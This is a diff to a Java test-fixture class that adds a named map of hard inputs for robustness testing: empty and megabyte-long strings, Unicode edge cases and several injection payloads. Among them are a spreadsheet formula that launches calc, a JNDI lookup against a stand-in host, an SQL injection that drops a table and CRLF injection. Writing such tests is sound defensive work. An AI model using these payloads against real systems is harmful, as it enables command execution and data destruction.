@@ -1,6 +1,8 @@
 package no.ildsjel;
 
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.Random;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
@@ -82,7 +84,53 @@ public final class SomeTexts {
             "{0}",
             "\t");
 
+    private static final String WORDS = "Pårørende ringer fordi ingen har sagt når vi kommer. ";
+    private static final int MEGABYTE = 1_000_000;
+
     private SomeTexts() {}
+
+    /** What whoever wants to break something would send, each by a name that says what it is. */
+    public static Map<String, String> hard() {
+        var hard = new LinkedHashMap<String, String>();
+        hard.put("nothing", "");
+        hard.put("one character", "x");
+        hard.put("3000 characters", of(3000, "å"));
+        hard.put("3001 characters", of(3001, "å"));
+        hard.put("40,000 characters", of(40_000, WORDS));
+        hard.put("a megabyte of words", of(MEGABYTE, WORDS));
+        hard.put("right to left", "\u202enetkøn rah mevh tev negnI");
+        hard.put("families", "Vi er 👩‍👩‍👧‍👦 og 👨‍👩‍👧 på avdelingen");
+        hard.put("spaces that nobody sees", "Ingen\u200bvet\u200bhvem\u200bsom har nøkkelen");
+        hard.put("only what nobody sees", "\u200b\u200d\u2060\ufeff");
+        hard.put("only signs", "👍🏽 … !!");
+        hard.put("NUL", "Ingen vet\u0000 hvem som har nøkkelen");
+        hard.put("halves of characters", "Ingen vet \ud83d hvem som \udc4d har nøkkelen");
+        hard.put("a thousand marks", "Ingen vet hvem a" + of(1000, "\u0301") + " som har nøkkelen");
+        hard.put("a channel", "<!channel> ingen vet hvem som har nøkkelen");
+        hard.put("a mention", "<@U1> og @everyone vet hvem som har nøkkelen");
+        hard.put("a formula", "=cmd()|' /C calc'!A0");
+        hard.put("a lookup", "${jndi:ldap://ond.example/a} {0} %s {name}");
+        hard.put("SQL", "'; DROP TABLE ideas; -- og så");
+        hard.put("CRLF", "Første linje\r\nAndre linje\rTredje linje");
+        hard.put("many letters", "æøå ÄÖÅ áđŋŧž čáhci gielda");
+        return hard;
+    }
+
+    /** Where what takes longer for each character than for the one before would be noticed. */
+    public static Map<String, String> megabytes() {
+        var endless = new LinkedHashMap<String, String>();
+        endless.put("a megabyte of one word", of(MEGABYTE, "a"));
+        endless.put("a megabyte of figures", of(MEGABYTE, "1 2 3, 4.5 - "));
+        endless.put("a megabyte of lines", of(MEGABYTE, "ord\n"));
+        endless.put("a megabyte of labels", of(MEGABYTE, "Verdi: spart tid\n"));
+        endless.put("a megabyte of questions", of(MEGABYTE, "Hva er det? "));
+        endless.put("a megabyte of signs", of(MEGABYTE, "?!:.,;-–«»"));
+        return endless;
+    }
+
+    private static String of(int length, String piece) {
+        return piece.repeat(length / piece.length() + 1).substring(0, length);
+    }
 
     /** Whole characters only; see {@link #dirty} for the rest. */
     public static String random(Random random) {
